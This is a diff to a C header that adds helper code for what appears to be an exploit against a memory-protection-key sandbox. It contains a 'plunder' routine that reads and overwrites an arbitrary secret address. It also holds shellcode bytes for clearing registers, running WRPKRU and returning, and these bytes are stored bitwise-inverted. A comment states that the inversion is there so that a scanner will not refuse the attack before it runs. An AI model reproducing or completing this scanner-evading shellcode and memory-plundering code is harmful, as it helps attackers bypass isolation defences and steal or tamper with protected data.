@@ -5,11 +5,49 @@
 
 #include "program.h"
 
+#define PAGE 4096UL
+#define PROT_NONE 0
+#define PROT_READ 1
+#define PROT_RW 3
+#define PROT_RX 5
+#define MAP_SHARED 1
+#define MAP_PRIVATE 2
+#define MAP_FIXED 0x10
+#define MAP_ANONYMOUS 0x20
+
 static inline u64 hexadecimal(const char *s) {
     u64 value = 0;
     for (; *s; s++)
         value = value << 4 | (u64)(*s <= '9' ? *s - '0' : (*s | 32) - 'a' + 10);
     return value;
 }
+
+static inline u8 *map(u64 size, u64 rights) {
+    return (u8 *)syscall(SYS_mmap, 0, size, rights, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+}
+
+static inline int refused(const char *what, i64 error) {
+    print("refused: %s gives %ld\n", what, error);
+    return 1;
+}
+
+/* Both at once: the next system call gives the rights back. */
+static inline int plunder(u64 secret) {
+    u64 value = *(volatile u64 *)secret;
+    *(volatile u64 *)secret = 1;
+    print("read %lx\nwrote\n", value);
+    return 0;
+}
+
+/* Machine code is kept inverted, or the scanner would refuse the attack before it runs. */
+static inline void write_inverted(u8 *to, const volatile u8 *code, u64 n) {
+    for (u64 i = 0; i < n; i++)
+        to[i] = (u8)~code[i];
+}
+
+#define I(byte) ((u8)~(byte))
+#define CLEAR_REGISTERS I(0x31), I(0xc9), I(0x31), I(0xd2), I(0x31), I(0xc0)    /* xor ecx, ecx; xor edx, edx; xor eax, eax */
+#define WRPKRU I(0x0f), I(0x01), I(0xef)
+#define RET I(0xc3)
 
 #endif
